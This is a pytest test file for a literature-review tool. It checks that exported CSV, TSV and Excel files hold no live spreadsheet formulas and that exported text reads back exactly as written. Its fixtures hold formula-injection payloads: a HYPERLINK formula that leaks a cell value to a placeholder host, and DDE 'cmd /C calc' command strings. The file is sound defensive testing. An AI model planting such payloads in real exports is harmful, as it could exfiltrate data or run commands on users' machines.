"""No output cell becomes a live formula, and reading an output back gives what was written."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from litreview import io
from litreview.sheets import read_sheet
from litreview.testing.pubmed_xml import render_article_set
from tests.reviews import run_workflow, take_snapshot

MINIMAL = Path(__file__).parent / "reviews" / "minimal"
TITLE = '=HYPERLINK("http://x.invalid/?leak="&A1,"Click for the full text")'
AUTHORS = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _live(value: str) -> bool:
    """Would a spreadsheet run this CSV value as a formula?"""
    return value.startswith(TRIGGERS) and not io._PLAIN_NUMBER_RE.match(value)


@given(
    st.lists(
        st.one_of(
            st.none(),
            st.text(max_size=12),
            st.sampled_from(["=1+1", "'=x", "''+y", "-3", "-3-1", "@a", "\tb", "'", "plain"]),
        ),
        min_size=1,
        max_size=8,
    )
)
def test_the_round_trip_of_a_table_is_exact(tmp_path_factory, values):
    folder = tmp_path_factory.mktemp("round")
    values = [None if v is None or not v.strip() or "\r" in v or "\n" in v else v for v in values]
    table = pd.DataFrame({"value": pd.array(values, dtype="string")})
    for name in ("t.tsv", "t.csv"):
        io.write_table(folder / name, table)
        with (folder / name).open(encoding="utf-8", newline="") as handle:
            cells = [row[0] for row in csv.reader(handle, delimiter="\t" if "tsv" in name else ",")]
        assert not any(_live(cell) for cell in cells[1:])
        back = io.read_table(folder / name)["value"]
        assert [None if pd.isna(v) else v for v in back] == values


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory) -> Path:
    """The minimal review with an other-sources record whose title and authors are formulas."""
    folder = tmp_path_factory.mktemp("poisoned")
    shutil.copytree(MINIMAL / "config", folder / "config")
    (folder / "config" / "other_sources.csv").write_text(
        "source_id,method,found_via,title,authors,year\n"
        + ",".join(
            [
                "os1",
                "citation_searching",
                "\"=cmd|' /C calc'!A0\"",
                '"' + TITLE.replace('"', '""') + '"',
                '"' + AUTHORS.replace('"', '""') + '"',
                "2021",
            ]
        )
        + "\n",
        encoding="utf-8",
    )
    config_path = folder / "config" / "config.yaml"
    config = yaml.safe_load(config_path.read_text(encoding="utf-8"))
    config["identify"] = {"other_sources": "config/other_sources.csv"}
    config_path.write_text(yaml.safe_dump(config), encoding="utf-8")
    records = [
        {"pmid": 4000 + i, "title": f"Study {i}", "year": 2020 + i, "languages": ["eng"]}
        for i in range(1, 5)
    ]
    take_snapshot(folder, render_article_set(records), ["4001", "4002", "4003", "4004"], "minimal")
    run_workflow(folder)
    return folder


def test_no_csv_or_tsv_output_holds_a_live_formula(poisoned):
    outputs = sorted((poisoned / "results").rglob("*.[ct]sv"))
    assert len(outputs) > 10
    seen = 0
    for path in outputs:
        with path.open(encoding="utf-8", newline="") as handle:
            reader = csv.reader(handle, delimiter="\t" if path.suffix == ".tsv" else ",")
            for number, row in enumerate(reader, start=1):
                live = [cell for cell in row if _live(cell)]
                assert not live, f"{path}, row {number}: {live}"
                seen += sum(TITLE in cell for cell in row)
    assert seen >= 4  # identified, deduplicated, screened, the queue at least


def test_no_xlsx_output_holds_a_formula_and_the_title_is_kept_as_text(poisoned):
    workbooks = sorted((poisoned / "results").rglob("*.xlsx"))
    assert any(path.name == "queue.xlsx" for path in workbooks)
    found = False
    for path in workbooks:
        workbook = load_workbook(path)
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path} {sheet.title}!{cell.coordinate}"
                    found |= cell.value == TITLE
    assert found


@pytest.mark.parametrize(
    "name", ["identified.tsv", "deduplicated.tsv", "screening/screened.tsv", "screening/queue.csv"]
)
def test_reading_an_output_back_gives_the_title_as_written(poisoned, name):
    table = io.read_table(poisoned / "results" / name)
    assert TITLE in set(table["title"].dropna())
    if "authors" in table.columns:
        assert AUTHORS in set(table["authors"].dropna())


def test_a_screening_sheet_started_from_the_queue_reads_the_title_back(poisoned, tmp_path):
    copy = tmp_path / "screening.csv"
    shutil.copy(poisoned / "results" / "screening" / "queue.csv", copy)
    assert TITLE in set(read_sheet(copy)["title"].dropna())
    assert TITLE in set(read_sheet(poisoned / "results" / "screening" / "queue.xlsx")["title"])
